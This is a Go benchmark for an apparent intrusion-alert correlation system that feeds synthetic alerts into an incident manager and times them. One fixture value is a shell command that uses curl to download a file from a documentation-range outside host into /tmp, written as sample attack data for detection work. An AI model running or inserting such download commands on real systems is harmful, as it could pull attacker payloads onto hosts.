package incident

import (
	"fmt"
	"math/rand/v2"
	"testing"
	"time"

	"baize/internal/alert"
	"baize/internal/event"
)

// BenchmarkAdd is the cost of one more alert, of many intrusions at once that
// use the same tools.
func BenchmarkAdd(b *testing.B) {
	r := rand.New(rand.NewPCG(1, 1))
	m := New(Config{OpenLevel: "medium", Alerts: 300_000, Keys: 600_000}, NewGiven(nil))
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		intrusion := r.IntN(20_000)
		a := &alert.Alert{
			ID: fmt.Sprint(i), Time: start.Add(time.Duration(i) * 10 * time.Millisecond), Host: event.Host{ID: fmt.Sprint(intrusion % 100)},
			Lineage: fmt.Sprint(intrusion*3 + r.IntN(3)), Rule: &alert.Rule{Level: "high"},
			Entities: []alert.Entity{
				{Type: alert.EntityIP, Value: fmt.Sprintf("10.0.0.%d", r.IntN(200))},
				{Type: alert.EntityCommand, Value: fmt.Sprintf("curl http://203.0.113.%d/x -o /tmp/a%d", r.IntN(200), i)},
				{Type: alert.EntityFile, Value: fmt.Sprintf("h:/tmp/x%d", intrusion), Inode: fmt.Sprintf("h/1:1/%d/0", intrusion)},
				{Type: alert.EntityAccount, Value: fmt.Sprintf("u%d", r.IntN(50))},
			},
		}
		m.Add(a, Facts{}, a.Time.UnixNano())
		m.Discard()
	}
}
